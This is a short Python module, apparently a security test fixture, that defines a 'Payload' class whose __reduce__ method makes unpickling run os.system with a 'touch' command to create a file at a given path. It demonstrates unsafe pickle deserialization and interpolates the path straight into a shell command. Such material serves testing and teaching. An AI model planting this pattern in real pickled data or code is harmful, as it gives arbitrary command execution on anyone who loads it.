"""An object that runs code when it is unpickled."""

import os
from pathlib import Path


class Payload:
    """Creates a file when it is unpickled."""

    def __init__(self, victim: Path) -> None:
        self.victim = victim

    def __reduce__(self):
        return os.system, (f"touch {self.victim}",)
